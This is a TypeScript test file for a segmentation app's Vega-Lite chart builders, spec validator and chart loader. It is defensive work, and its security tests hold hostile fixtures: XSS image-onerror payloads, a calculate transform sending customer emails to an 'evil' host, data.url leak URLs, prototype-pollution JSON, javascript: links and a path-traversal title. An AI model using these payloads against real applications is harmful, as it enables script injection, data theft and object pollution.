/**
 * Guards src/charts/specs.ts (and the loader of VegaChart.svelte), RELIABILITY.md T2, T3, T6, T7:
 * every builder's spec compiles with Vega-Lite without warnings, holds its data inline (no `url`
 * anywhere, before or after compiling), uses the segment palette, passes validateSpec, and draws
 * in Vega's headless view through vega-interpreter with `Function` disabled (what a CSP without
 * 'unsafe-eval' does). validateSpec rejects the exfiltration and pollution shapes; customChartSpec
 * survives hostile column names.
 */
import { describe, it, expect, afterEach } from 'vitest';
import { compile, type TopLevelSpec } from 'vega-lite';
import { parse, View, type Spec as VgSpec } from 'vega';
import { SAFE_LOADER } from '../../../src/charts/vega-runtime';
import { expressionInterpreter } from 'vega-interpreter';
import {
	SEGMENT_COLOURS,
	SEGBOOK_CONFIG,
	customChartSpec,
	elbowSpec,
	featureBoxplotSpec,
	keySafeTitle,
	overlapSpec,
	rfmGridSpec,
	segmentMapSpec,
	segmentOrder,
	segmentSizesSpec,
	silhouetteSpec,
	traitHeatmapSpec,
	validateSpec,
	boxSummary
} from '../../../src/charts/specs';

// The component's module script exports its loader and helpers; tsc only knows a .svelte file's
// default export, so the named ones are typed here.
const { slug, tooltipHtml } = (await import('../../../src/charts/VegaChart.svelte')) as unknown as {
	slug: (title: string) => string;
	tooltipHtml: (value: unknown) => string;
};

// ---------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------

type CompileLogger = NonNullable<NonNullable<Parameters<typeof compile>[1]>['logger']>;

/** Compile with a logger that records every warning and error instead of printing it. */
function compileLoud(spec: TopLevelSpec): { vg: VgSpec; warnings: string[] } {
	const warnings: string[] = [];
	const record = (...args: readonly unknown[]): CompileLogger => {
		warnings.push(args.map(String).join(' '));
		return logger;
	};
	const logger: CompileLogger = {
		level(): CompileLogger {
			return logger;
		},
		error: record,
		warn: record,
		info: () => logger,
		debug: () => logger
	} as unknown as CompileLogger;
	const vg = compile(spec, { logger }).spec;
	return { vg, warnings };
}

/** Every key path in a JSON-like tree whose key is `name`. */
function keyPaths(node: unknown, name: string, path = ''): string[] {
	if (Array.isArray(node)) return node.flatMap((v, i) => keyPaths(v, name, `${path}[${i}]`));
	if (node === null || typeof node !== 'object') return [];
	return Object.keys(node).flatMap((k) => [
		...(k === name ? [`${path}.${k}`] : []),
		...keyPaths((node as Record<string, unknown>)[k], name, `${path}.${k}`)
	]);
}

/** Every string anywhere in a tree. */
function strings(node: unknown): string[] {
	if (typeof node === 'string') return [node];
	if (Array.isArray(node)) return node.flatMap(strings);
	if (node === null || typeof node !== 'object') return [];
	return Object.values(node).flatMap(strings);
}

function inlineValues(spec: TopLevelSpec): unknown[] {
	const data = (spec as { data?: { values?: unknown } }).data;
	expect(data).toBeDefined();
	// Values only, perhaps named (a name loads nothing): no url, no format to parse.
	expect(Object.keys(data ?? {}).filter((k) => k !== 'name')).toEqual(['values']);
	expect(Array.isArray(data?.values)).toBe(true);
	return data?.values as unknown[];
}

function encodingOf(spec: TopLevelSpec): Record<string, Record<string, unknown>> {
	return (spec as unknown as { encoding: Record<string, Record<string, unknown>> }).encoding;
}

/** All colours in the ranges of the compiled spec's scales. */
function scaleRanges(vg: VgSpec): unknown[] {
	const out: unknown[] = [];
	const visit = (node: unknown): void => {
		if (Array.isArray(node)) node.forEach(visit);
		else if (node !== null && typeof node === 'object') {
			const o = node as Record<string, unknown>;
			if (Array.isArray(o.scales)) {
				for (const s of o.scales as { range?: unknown }[]) out.push(s.range);
			}
			Object.values(o).forEach(visit);
		}
	};
	visit(vg);
	return out;
}

/**
 * Vega's runtime warns "Infinite extent" when a boxplot panel has no outliers (its outlier layer
 * is empty). Harmless: the boxes draw; the only runtime message we tolerate.
 */
const INFINITE_EXTENT = /^Infinite extent for field "(?:value|f\d+)"/;

const realFunction = globalThis.Function;
afterEach(() => {
	globalThis.Function = realFunction;
});

/**
 * Draw a compiled spec headlessly to SVG the way VegaChart does (interpreter + SAFE_LOADER),
 * with `Function` disabled like a CSP without 'unsafe-eval': codegen would throw.
 */
async function drawWithoutEval(vg: VgSpec): Promise<{ svg: string; errors: string[] }> {
	const errors: string[] = [];
	const runtime = parse(vg, undefined, { ast: true });
	const blocked = function (): never {
		throw new EvalError('Function() is blocked (no unsafe-eval)');
	} as unknown as FunctionConstructor;
	globalThis.Function = blocked;
	try {
		const view = new View(runtime, {
			renderer: 'none',
			loader: SAFE_LOADER,
			expr: expressionInterpreter
		});
		view.logger({
			level: () => view.logger(),
			error: (...a: unknown[]) => (errors.push(a.map(String).join(' ')), view.logger()),
			warn: (...a: unknown[]) => (errors.push(a.map(String).join(' ')), view.logger()),
			info: () => view.logger(),
			debug: () => view.logger()
		} as unknown as ReturnType<View['logger']>);
		await view.runAsync();
		const svg = await view.toSVG();
		view.finalize();
		return { svg, errors };
	} finally {
		globalThis.Function = realFunction;
	}
}

// ---------------------------------------------------------------------------------------------
// Fixtures: one call of every builder
// ---------------------------------------------------------------------------------------------

const SEGMENTS = ['Segment 1', 'Segment 2', 'Segment 10', 'Segment 3'];
const FEATURES = ['Recency (days)', 'Orders', '<img src=x onerror=alert(1)>', '__proto__'];

function fixtures(): Record<string, TopLevelSpec> {
	const sizes = SEGMENTS.map((segment, i) => ({ segment, customers: 100 * (i + 1), share: 0.1 }));
	const points = Array.from({ length: 200 }, (_, i) => ({
		x: Math.sin(i),
		y: Math.cos(i * 1.3),
		segment: SEGMENTS[i % SEGMENTS.length]!,
		key: `C${i}`
	}));
	const cells = SEGMENTS.flatMap((segment, i) =>
		FEATURES.map((feature, j) => ({ segment, feature, index: 40 + 30 * i + 10 * j }))
	);
	const box = SEGMENTS.flatMap((segment, i) =>
		FEATURES.flatMap((feature, j) =>
			Array.from({ length: 20 }, (_, r) => ({ segment, feature, value: i * 10 + j + r }))
		)
	);
	const sweep = [2, 3, 4, 5, 6].map((k) => ({
		k,
		inertia: 1000 / k,
		silhouette: 0.2 + 0.05 * k
	}));
	const rfm = Array.from({ length: 25 }, (_, i) => ({
		r: 5 - Math.floor(i / 5),
		fm: (i % 5) + 1,
		customers: 10 * i,
		group: i % 2 === 0 ? 'Champions' : "Can't lose them"
	}));
	const overlap = SEGMENTS.flatMap((a, i) =>
		['Champions', 'Lost'].map((b, j) => ({
			a,
			b,
			customers: i * 10 + j,
			shareOfA: j === 0 ? 0.7 : 0.3
		}))
	);
	return {
		segmentSizes: segmentSizesSpec(sizes),
		segmentMap: segmentMapSpec(points, [0.41, 0.22]),
		traitHeatmap: traitHeatmapSpec(cells),
		featureBoxplot: featureBoxplotSpec(box),
		elbow: elbowSpec(sweep, 4),
		silhouette: silhouetteSpec(sweep, 4),
		rfmGrid: rfmGridSpec(rfm),
		overlap: overlapSpec(overlap, 'Segments', 'RFM groups'),
		customBar: customChartSpec({
			mark: 'bar',
			x: 'segment',
			y: 'spend',
			colour: null,
			rows: sizes.map((s) => ({ segment: s.segment, spend: s.customers * 3.5 }))
		}),
		customCount: customChartSpec({
			mark: 'bar',
			x: 'spend',
			y: null,
			colour: null,
			rows: Array.from({ length: 50 }, (_, i) => ({ spend: i * 2.5 }))
		}),
		customLine: customChartSpec({
			mark: 'line',
			x: 'day',
			y: 'revenue',
			colour: 'channel',
			rows: Array.from({ length: 20 }, (_, i) => ({
				day: new Date(Date.UTC(2024, 0, 1 + i)),
				revenue: 100 + i,
				channel: i % 2 === 0 ? 'web' : 'shop'
			}))
		}),
		customBoxplot: customChartSpec({
			mark: 'boxplot',
			x: 'segment',
			y: 'spend',
			colour: null,
			rows: Array.from({ length: 40 }, (_, i) => ({
				segment: SEGMENTS[i % 4]!,
				spend: i * 1.5
			}))
		})
	};
}

// ---------------------------------------------------------------------------------------------
// Every builder
// ---------------------------------------------------------------------------------------------

describe('chart builders', () => {
	const all = fixtures();

	for (const [name, spec] of Object.entries(all)) {
		it(`${name}: compiles without warnings, no url before or after compiling`, () => {
			const { vg, warnings } = compileLoud(spec);
			expect(warnings).toEqual([]);
			expect(keyPaths(spec, 'url')).toEqual([]);
			expect(keyPaths(vg, 'url')).toEqual([]);
			expect(keyPaths(vg, 'href')).toEqual([]);
			expect(JSON.stringify(spec)).not.toMatch(/"url"|https?:/);
		});

		it(`${name}: data is inline values only, with the Segbook theme`, () => {
			const values = inlineValues(spec);
			expect(values.length).toBeGreaterThan(0);
			const config = (spec as { config?: unknown }).config;
			expect(config).toEqual(SEGBOOK_CONFIG);
			expect(config).not.toBe(SEGBOOK_CONFIG);
		});

		it(`${name}: passes validateSpec`, () => {
			expect(validateSpec(spec)).toEqual({ ok: true });
		});

		it(`${name}: draws headlessly through the interpreter with Function() blocked`, async () => {
			const { vg } = compileLoud(spec);
			const { svg, errors } = await drawWithoutEval(vg);
			expect(errors.filter((e) => !INFINITE_EXTENT.test(e))).toEqual([]);
			expect(svg).toMatch(/^<svg/);
			expect(svg).not.toContain('<img');
		});
	}

	it('copies rows into fresh objects (Vega tags data objects; the caller’s stay untouched)', () => {
		const rows = [{ segment: 'A', customers: 3, share: 1, extra: 'dropped' }];
		const spec = segmentSizesSpec(rows);
		const values = inlineValues(spec);
		expect(values[0]).not.toBe(rows[0]);
		expect(values[0]).toEqual({ segment: 'A', customers: 3, share: 1 });
	});

	it('leaves out points without a finite position', () => {
		const spec = segmentMapSpec(
			[
				{ x: NaN, y: 1, segment: 'A', key: 'a' },
				{ x: 1, y: Infinity, segment: 'A', key: 'b' },
				{ x: 2, y: 3, segment: 'B', key: 'c' }
			],
			[NaN, 0.1]
		);
		expect(inlineValues(spec)).toEqual([{ x: 2, y: 3, segment: 'B', key: 'c' }]);
	});

	it('uses the segment palette, in natural segment order, for every segment chart', () => {
		const order = segmentOrder(SEGMENTS);
		expect(order).toEqual(['Segment 1', 'Segment 2', 'Segment 3', 'Segment 10']);
		const expected = SEGMENT_COLOURS.slice(0, order.length);
		for (const name of ['segmentSizes', 'segmentMap', 'featureBoxplot'] as const) {
			const { vg } = compileLoud(all[name]!);
			expect(scaleRanges(vg), name).toContainEqual(expected);
		}
	});

	it('offers 12 distinct colours, the colour-blind-safe Okabe-Ito eight first', () => {
		expect(SEGMENT_COLOURS).toHaveLength(12);
		expect(new Set(SEGMENT_COLOURS.map((c) => c.toLowerCase())).size).toBe(12);
		expect(SEGMENT_COLOURS).toContain('#0072B2');
		expect(SEGMENT_COLOURS).toContain('#E69F00');
	});

	it('repeats the palette past twelve segments instead of leaving segments without colour', () => {
		const rows = Array.from({ length: 14 }, (_, i) => ({
			segment: `S${i + 1}`,
			customers: 1,
			share: 0.1
		}));
		const { vg, warnings } = compileLoud(segmentSizesSpec(rows));
		expect(warnings).toEqual([]);
		const ranges = scaleRanges(vg).filter((r) => Array.isArray(r) && r.length === 14);
		expect(ranges[0]).toEqual([...SEGMENT_COLOURS, SEGMENT_COLOURS[0], SEGMENT_COLOURS[1]]);
	});

	it('writes the explained variance into the map’s axis titles', () => {
		const text = JSON.stringify(segmentMapSpec([], [0.414, 0.2]));
		expect(text).toContain('41%');
		expect(text).toContain('20%');
		expect(text).toContain('Customers on the two main directions of difference (PCA)');
	});

	it('centres the trait heatmap on 100 with a diverging scheme', () => {
		const text = JSON.stringify(fixtures().traitHeatmap);
		expect(text).toContain('"domainMid":100');
		expect(text).toContain('"scheme":"blueorange"');
	});

	it('marks the chosen k only when it is one of the rows', () => {
		const rows = [2, 3, 4].map((k) => ({ k, inertia: 10 - k }));
		const marked = JSON.stringify(elbowSpec(rows, 3));
		expect(marked).toContain('"equal":3');
		expect(marked).toContain('"rule"');
		const unmarked = elbowSpec(rows, 9);
		expect(JSON.stringify(unmarked)).not.toContain('"rule"');
		expect(compileLoud(unmarked).warnings).toEqual([]);
	});

	it('computes each box as Vega-Lite’s boxplot does: quartiles, 1.5 × IQR whiskers, outliers', async () => {
		// By hand: 1..9 and 100. Quartiles interpolated (R type 7): 3.25, 5.5, 7.75; IQR 4.5.
		expect(boxSummary([100, 9, 8, 7, 6, 5, 4, 3, 2, 1])).toEqual({
			q1: 3.25,
			median: 5.5,
			q3: 7.75,
			lower: 1,
			upper: 9,
			outliers: [100]
		});
		expect(boxSummary([4])).toEqual({
			q1: 4,
			median: 4,
			q3: 4,
			lower: 4,
			upper: 4,
			outliers: []
		});
		// The quartiles agree with Vega's own aggregate ops (what its boxplot uses) on skewed data.
		const xs = Array.from({ length: 301 }, (_, i) => Math.exp(Math.sin(i * 12.9898) * 3));
		const view = new View(
			parse(
				{
					data: [
						{
							name: 'd',
							values: xs.map((v) => ({ v })),
							transform: [
								{
									type: 'aggregate',
									ops: ['q1', 'median', 'q3'],
									fields: ['v', 'v', 'v'],
									as: ['q1', 'median', 'q3']
								}
							]
						}
					]
				},
				undefined,
				{ ast: true }
			),
			{ renderer: 'none', expr: expressionInterpreter }
		);
		await view.runAsync();
		const [vega] = view.data('d') as { q1: number; median: number; q3: number }[];
		const ours = boxSummary(xs);
		expect(ours.q1).toBeCloseTo(vega!.q1, 12);
		expect(ours.median).toBeCloseTo(vega!.median, 12);
		expect(ours.q3).toBeCloseTo(vega!.q3, 12);
		view.finalize();
	});

	it('carries five numbers per box and the outliers, not every customer', () => {
		const rows = ['1', '2'].flatMap((segment) =>
			Array.from({ length: 500 }, (_, i) => ({ segment, feature: 'spend', value: i % 50 }))
		);
		rows.push({ segment: '1', feature: 'spend', value: 10_000 });
		const data = (featureBoxplotSpec(rows) as { data: { values: { kind: string }[] } }).data.values;
		expect(data.filter((d) => d.kind === 'box')).toHaveLength(2);
		expect(data.filter((d) => d.kind === 'outlier')).toHaveLength(1);
	});

	it('draws the RFM grid with R from 5 at the top to 1, FM from 1 to 5', () => {
		const text = JSON.stringify(fixtures().rfmGrid);
		expect(text).toContain('"domain":[5,4,3,2,1]');
		expect(text).toContain('"domain":[1,2,3,4,5]');
	});

	it('keeps HTML in feature names as plain values and title strings', async () => {
		const spec = traitHeatmapSpec([{ segment: '<b>A</b>', feature: '<img src=x>', index: 120 }]);
		const { vg } = compileLoud(spec);
		const { svg } = await drawWithoutEval(vg);
		expect(svg).not.toContain('<img');
		expect(svg).not.toContain('<b>');
		expect(svg).toContain('&lt;img src=x&gt;');
	});
});

// ---------------------------------------------------------------------------------------------
// customChartSpec
// ---------------------------------------------------------------------------------------------

describe('customChartSpec', () => {
	const HTML = '<img src=x onerror=alert(1)>';

	function hostileRows(): Record<string, unknown>[] {
		return Array.from({ length: 12 }, (_, i) => {
			const row: Record<string, unknown> = {};
			// Own keys, as JSON.parse or a careful Arrow reader would make them.
			Object.defineProperty(row, '__proto__', { value: `p${i % 3}`, enumerable: true });
			Object.defineProperty(row, 'constructor', { value: i * 2, enumerable: true });
			row[HTML] = i % 2 === 0 ? 'yes' : 'no';
			return row;
		});
	}

	it('renames columns __proto__, constructor and HTML to f0, f1, f2', () => {
		const spec = customChartSpec({
			mark: 'point',
			x: '__proto__',
			y: 'constructor',
			colour: HTML,
			rows: hostileRows()
		});
		const values = inlineValues(spec) as Record<string, unknown>[];
		expect(values).toHaveLength(12);
		for (const v of values) {
			expect(Object.getPrototypeOf(v)).toBe(null);
			expect(Object.keys(v)).toEqual(['f0', 'f1', 'f2']);
		}
		expect(values[4]).toEqual(Object.assign(Object.create(null), { f0: 'p1', f1: 8, f2: 'yes' }));
		const enc = encodingOf(spec);
		// Vega refuses these as tooltip keys, so their titles say what they are.
		expect(enc.x).toMatchObject({ field: 'f0', title: '__proto__ (column)', type: 'nominal' });
		expect(enc.y).toMatchObject({
			field: 'f1',
			title: 'constructor (column)',
			type: 'quantitative'
		});
		expect(enc.color).toMatchObject({ field: 'f2', title: HTML, type: 'nominal' });
		expect(({} as Record<string, unknown>).polluted).toBeUndefined();
		expect(validateSpec(spec)).toEqual({ ok: true });
	});

	it('keeps the HTML column name a plain axis title and draws it as text', async () => {
		const spec = customChartSpec({
			mark: 'bar',
			x: HTML,
			y: 'constructor',
			colour: null,
			rows: hostileRows()
		});
		const { vg, warnings } = compileLoud(spec);
		expect(warnings).toEqual([]);
		expect(strings(vg)).toContain(HTML);
		const { svg, errors } = await drawWithoutEval(vg);
		expect(errors).toEqual([]);
		expect(svg).not.toContain('<img');
		expect(svg).toContain('&lt;img src=x onerror=alert(1)&gt;');
	});

	it('draws every mark with columns named like Object.prototype members, `__proto__` and `then`', async () => {
		const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'then'];
		const rows = Array.from({ length: 24 }, (_, i) => {
			const row: Record<string, unknown> = {};
			names.forEach((name, j) =>
				Object.defineProperty(row, name, {
					value: j % 2 === 0 ? `g${i % 3}` : i * (j + 1),
					enumerable: true
				})
			);
			return row;
		});
		for (const mark of ['bar', 'line', 'point', 'area', 'tick', 'boxplot'] as const) {
			for (const [x, y, colour] of [
				['__proto__', 'constructor', 'toString'],
				['valueOf', 'hasOwnProperty', 'then'],
				['__proto__', null, 'then']
			] as const) {
				const spec = customChartSpec({ mark, x, y, colour, rows });
				const { vg, warnings } = compileLoud(spec);
				expect(warnings, `${mark} ${x} ${String(y)}`).toEqual([]);
				const { errors } = await drawWithoutEval(vg);
				expect(
					errors.filter((e) => !INFINITE_EXTENT.test(e)),
					`${mark} ${x}`
				).toEqual([]);
			}
		}
		expect(keySafeTitle('constructor')).toBe('constructor (column)');
		expect(keySafeTitle('Constructor')).toBe('Constructor');
	});

	it('never reads a column through the prototype chain', () => {
		const spec = customChartSpec({
			mark: 'bar',
			x: '__proto__',
			y: 'toString',
			colour: null,
			rows: [{ a: 1 }, { a: 2 }]
		});
		// Plain rows without those own keys: missing, not Object.prototype or a function.
		expect(inlineValues(spec)).toEqual([
			Object.assign(Object.create(null), { f0: null, f1: null }),
			Object.assign(Object.create(null), { f0: null, f1: null })
		]);
	});

	it('counts rows when y is null, binning a numeric x for bars', () => {
		const spec = customChartSpec({
			mark: 'bar',
			x: 'constructor',
			y: null,
			colour: null,
			rows: hostileRows()
		});
		const enc = encodingOf(spec);
		expect(enc.y).toEqual({ aggregate: 'count', type: 'quantitative', title: 'Number of rows' });
		expect(enc.x).toMatchObject({ field: 'f0', bin: { maxbins: 30 } });
		expect(compileLoud(spec).warnings).toEqual([]);
	});

	it('counts rows of a text x without binning', () => {
		const spec = customChartSpec({
			mark: 'line',
			x: '__proto__',
			y: null,
			colour: null,
			rows: hostileRows()
		});
		const enc = encodingOf(spec);
		expect(enc.y).toMatchObject({ aggregate: 'count' });
		expect(enc.x).not.toHaveProperty('bin');
		expect(compileLoud(spec).warnings).toEqual([]);
	});

	it('infers quantitative, temporal and nominal from the values', () => {
		const rows = [
			{ n: 1, d: '2024-01-02', t: new Date(Date.UTC(2024, 0, 2)), s: 'a', b: 10n, mixed: 1 },
			{ n: 2.5, d: '2024-02-03T10:00:00Z', t: null, s: 'b', b: 20n, mixed: 'x' }
		];
		const kinds = (x: string): unknown =>
			encodingOf(customChartSpec({ mark: 'point', x, y: null, colour: null, rows })).x?.type;
		expect(kinds('n')).toBe('quantitative');
		expect(kinds('b')).toBe('quantitative');
		expect(kinds('d')).toBe('temporal');
		expect(kinds('t')).toBe('temporal');
		expect(kinds('s')).toBe('nominal');
		expect(kinds('mixed')).toBe('nominal');
		const spec = customChartSpec({ mark: 'point', x: 'd', y: 'mixed', colour: null, rows });
		expect(inlineValues(spec)).toEqual([
			Object.assign(Object.create(null), { f0: Date.UTC(2024, 0, 2), f1: '1' }),
			Object.assign(Object.create(null), { f0: Date.UTC(2024, 1, 3, 10), f1: 'x' })
		]);
	});

	it('compiles every mark, with and without y, without warnings', () => {
		const rows = Array.from({ length: 30 }, (_, i) => ({
			group: `g${i % 3}`,
			amount: i * 1.25,
			when: new Date(Date.UTC(2024, 0, 1 + i))
		}));
		for (const mark of ['bar', 'line', 'point', 'area', 'tick', 'boxplot'] as const) {
			for (const [x, y] of [
				['group', 'amount'],
				['when', 'amount'],
				['amount', null],
				['group', null]
			] as const) {
				const spec = customChartSpec({ mark, x, y, colour: 'group', rows });
				expect(compileLoud(spec).warnings, `${mark} ${x} ${String(y)}`).toEqual([]);
				expect(validateSpec(spec)).toEqual({ ok: true });
			}
		}
	});
});

// ---------------------------------------------------------------------------------------------
// validateSpec
// ---------------------------------------------------------------------------------------------

describe('validateSpec', () => {
	const base = (): Record<string, unknown> => ({
		data: { values: [{ a: 1 }] },
		mark: 'point',
		encoding: { x: { field: 'a', type: 'quantitative' } }
	});

	function rejects(spec: unknown, pattern: RegExp): void {
		const verdict = validateSpec(spec);
		expect(verdict.ok).toBe(false);
		if (!verdict.ok) expect(verdict.error).toMatch(pattern);
	}

	it('accepts a plain inline spec and the official $schema', () => {
		expect(validateSpec(base())).toEqual({ ok: true });
		expect(
			validateSpec({ $schema: 'https://vega.github.io/schema/vega-lite/v6.json', ...base() })
		).toEqual({ ok: true });
	});

	it('rejects data.url, naming the path', () => {
		rejects(
			{ ...base(), data: { url: 'http://127.0.0.1:8001/leak' } },
			/^data\.url is not allowed: charts use only the notebook's own data/
		);
		rejects({ ...base(), data: { url: 'customers.csv' } }, /^data\.url is not allowed/);
		rejects(
			{ layer: [{ data: { url: 'x.json' }, mark: 'bar' }] },
			/^layer\[0\]\.data\.url is not allowed/
		);
	});

	it('rejects image marks in every spelling', () => {
		rejects({ ...base(), mark: 'image' }, /^mark is an image mark/);
		rejects({ ...base(), mark: { type: 'image' } }, /^mark\.type is an image mark/);
		rejects({ layer: [{ mark: 'image' }] }, /^layer\[0\]\.mark is an image mark/);
		// Vega (not -lite) marks.
		rejects({ marks: [{ type: 'image' }] }, /^marks\[0\]\.type is an image mark/);
	});

	it('rejects href and url encodings', () => {
		rejects({ ...base(), encoding: { href: { field: 'a' } } }, /^encoding\.href is not allowed/);
		rejects({ ...base(), encoding: { url: { field: 'a' } } }, /^encoding\.url is not allowed/);
		rejects({ ...base(), mark: { type: 'point', href: 'x' } }, /^mark\.href is not allowed/);
	});

	it('rejects a nested __proto__ key, constructor and prototype', () => {
		rejects(
			JSON.parse('{"mark":"bar","config":{"__proto__":{"polluted":"yes"}}}'),
			/^config\.__proto__ is not allowed/
		);
		rejects(
			JSON.parse('{"encoding":{"x":{"scale":{"constructor":{"prototype":{"x":1}}}}}}'),
			/^encoding\.x\.scale\.constructor is not allowed/
		);
		rejects(
			JSON.parse('{"data":{"values":[{"a":1},{"__proto__":{"x":1}}]}}'),
			/^data\.values\[1\]\.__proto__ is not allowed/
		);
		expect(({} as Record<string, unknown>).polluted).toBeUndefined();
	});

	it('rejects javascript:, web and protocol-relative links in strings', () => {
		rejects({ ...base(), title: 'javascript:alert(1)' }, /^title contains a web or script link/);
		rejects({ ...base(), title: ' JaVa\tScRiPt:alert(1)' }, /^title contains a web or script link/);
		rejects({ ...base(), description: '//evil.example/x' }, /^description contains/);
		rejects(
			{ ...base(), transform: [{ calculate: "'https://evil/?e=' + datum.email", as: 'u' }] },
			/^transform\[0\]\.calculate contains/
		);
		rejects({ ...base(), title: 'data:text/html,<script>1</script>' }, /^title contains/);
		rejects(
			{ $schema: 'https://evil.example/schema.json', ...base() },
			/^\$schema must be a Vega or Vega-Lite schema address/
		);
	});

	it('treats strings inside inline values as data', () => {
		expect(
			validateSpec({ ...base(), data: { values: [{ site: 'https://shop.example' }] } })
		).toEqual({ ok: true });
	});

	it('rejects loader, usermeta and controls bound to page elements', () => {
		rejects({ ...base(), usermeta: { embedOptions: { ast: false } } }, /^usermeta is not allowed/);
		rejects({ ...base(), loader: { baseURL: 'x' } }, /^loader is not allowed/);
		rejects(
			{ ...base(), params: [{ name: 'p', bind: { input: 'range', element: '#app' } }] },
			/^params\[0\]\.bind\.element is not allowed/
		);
	});

	it('caps depth and size, and refuses what is not plain JSON', () => {
		let deep: Record<string, unknown> = { mark: 'bar' };
		for (let i = 0; i < 100; i++) deep = { layer: [deep] };
		rejects(deep, /nested too deeply/);
		rejects({ ...base(), data: { values: new Array(2_000_001).fill(0) } }, /too large/);
		rejects({ ...base(), title: 'x'.repeat(100_001) }, /^title is too long/);
		rejects({ ...base(), title: () => 1 }, /^title is not plain JSON/);
		rejects({ ...base(), title: new Date() }, /^title is not plain JSON/);
		rejects([base()], /must be a JSON object/);
		rejects(null, /must be a JSON object/);
		const cyclic: Record<string, unknown> = base();
		cyclic.self = cyclic;
		rejects(cyclic, /nested too deeply/);
	});
});

// ---------------------------------------------------------------------------------------------
// VegaChart's loader, tooltip and file names
// ---------------------------------------------------------------------------------------------

describe('SAFE_LOADER', () => {
	it('refuses every load, sanitise, http and file request', async () => {
		for (const uri of ['http://127.0.0.1:8001/leak', 'data.csv', 'data:text/csv,a', '//x/y']) {
			await expect(SAFE_LOADER.load(uri)).rejects.toThrow('Charts cannot load from URLs');
			await expect(SAFE_LOADER.sanitize(uri, { context: 'href' })).rejects.toThrow(
				'Charts cannot load from URLs'
			);
			await expect(SAFE_LOADER.http(uri, {})).rejects.toThrow('Charts cannot load from URLs');
			await expect(SAFE_LOADER.file(uri)).rejects.toThrow('Charts cannot load from URLs');
		}
	});

	it('makes a data.url spec draw nothing and send no request', async () => {
		const requests: string[] = [];
		const realFetch = globalThis.fetch;
		globalThis.fetch = ((input: unknown) => {
			requests.push(String(input));
			return Promise.reject(new Error('no network in tests'));
		}) as typeof fetch;
		try {
			const { vg } = compileLoud({
				data: { url: 'http://127.0.0.1:8001/leak?d=secret' },
				mark: 'point',
				encoding: { x: { field: 'a', type: 'quantitative' } }
			});
			const { errors } = await drawWithoutEval(vg);
			expect(errors.join(' ')).toContain('Charts cannot load from URLs');
			expect(requests).toEqual([]);
		} finally {
			globalThis.fetch = realFetch;
		}
	});
});

describe('VegaChart helpers', () => {
	it('builds tooltips as escaped text, with no image for an image key', () => {
		const html = tooltipHtml({
			'<b>key</b>': '<img src=x onerror=alert(1)>',
			image: 'http://127.0.0.1:8001/p.gif',
			title: '<script>',
			n: 3
		});
		expect(html).not.toMatch(/<img|<b>|<script/);
		expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
		expect(html).toContain('<td class="key">image</td>');
		expect(tooltipHtml('<i>x</i>')).toBe('&lt;i&gt;x&lt;/i&gt;');
	});

	it('slugs titles into file names', () => {
		expect(slug('Customers in each segment')).toBe('customers-in-each-segment');
		expect(slug('<img src=x> / ../../etc')).toBe('img-src-x-etc');
		expect(slug('Überblick: Kunden')).toBe('uberblick-kunden');
		expect(slug('***')).toBe('chart');
	});
});
